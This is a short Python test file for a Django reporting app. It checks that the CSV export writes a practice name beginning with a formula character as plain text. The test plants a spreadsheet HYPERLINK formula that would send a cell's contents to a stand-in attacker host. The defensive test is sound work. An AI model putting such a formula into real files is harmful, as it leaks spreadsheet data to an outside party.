"""The ICB report's CSV cannot carry a formula into the admin's spreadsheet (issue 14, 4)."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import Practice
from core.csvsafe import FORMULA_STARTS, safe_cell

CSV = reverse("reporting:export_csv")


@pytest.mark.django_db
def test_a_practice_named_as_a_formula_is_written_as_text(icb_admin_client, report_data):
    evil = '=HYPERLINK("http://evil.example/"&A1,"Click")'
    practice = Practice.objects.get(ods_code="P00001")
    practice.name = evil
    practice.save()
    response = icb_admin_client.get(CSV + f"?practice={practice.pk}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + evil in cells  # the practice's name is there, as text
    assert not [c for c in cells if c.startswith(FORMULA_STARTS[:-1]) and safe_cell(c) != c]
